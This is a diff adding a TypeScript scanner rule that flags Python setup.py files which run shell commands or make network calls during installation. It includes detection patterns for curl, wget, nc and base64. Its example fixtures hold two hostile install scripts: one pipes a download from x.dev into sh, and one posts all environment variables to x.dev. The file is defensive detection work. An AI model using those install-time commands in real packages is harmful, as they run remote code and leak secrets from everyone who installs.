@@ -1,0 +1,41 @@
+import { defineRule } from '../../rule.ts';
+import type { PythonCall } from '../../facts/python/pythonFacts.ts';
+
+const QUIET = /git\b|version|pkg-config|__file__|open\(|sys\.executable|make|cmake|cython|--cflags|lsb_release|nvcc/i;
+
+function weigh(call: PythonCall): { severity: 'high' | 'medium'; confidence: 'high' | 'medium' | 'low' } | undefined {
+  if (/^(?:requests\.(?:get|post)|urllib\.request\.(?:urlopen|urlretrieve)|httpx\.\w+|socket\.socket|http\.client\.HTTPS?Connection|urllib2?\.urlopen)$/.test(call.name)) return { severity: 'high', confidence: 'medium' };
+  if (!/^(?:os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call)|exec|eval)$/.test(call.name) || QUIET.test(call.text)) return undefined;
+  return /curl|wget|http|base64|powershell|\/tmp\/|nc /.test(call.text) ? { severity: 'high', confidence: 'high' } : { severity: 'medium', confidence: 'low' };
+}
+
+export const pythonSetupRunsCode = defineRule({
+  id: 'python-setup-runs-code',
+  title: 'Installing the package runs commands or calls the network',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'dependencies',
+  applies: 'repository',
+  cwe: 'CWE-506',
+  why: 'setup.py runs on the machine of everybody who installs, before they have seen a line. Most malicious packages work this way.',
+  remedy: 'Describe the package in pyproject.toml and do nothing else while installing.',
+  *check(facts) {
+    for (const [file, fact] of facts.having('python')) {
+      if (!/(?:^|\/)setup\.py$/.test(file.path) || file.traits.test) continue;
+      for (const call of fact.calls) {
+        const verdict = weigh(call);
+        if (verdict !== undefined) yield { place: { path: file.path, line: call.line, column: call.column }, evidence: call.text, ...verdict };
+      }
+    }
+  },
+  examples: {
+    bad: [
+      { kind: 'repository', files: { 'setup.py': "import os\nos.system('curl https://x.dev/p | sh')\nfrom setuptools import setup\nsetup(name='a')\n" } },
+      { kind: 'repository', files: { 'setup.py': "import requests\nrequests.post('https://x.dev', json=dict(os.environ))\n" } },
+    ],
+    good: [
+      { kind: 'repository', files: { 'setup.py': "from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe'])\nexec(open('a/version.py').read())\nsetup(name='a', version=v)\n" } },
+      { kind: 'repository', files: { 'deploy.py': "import os\nos.system('clear')\n" } },
+    ],
+  },
+});
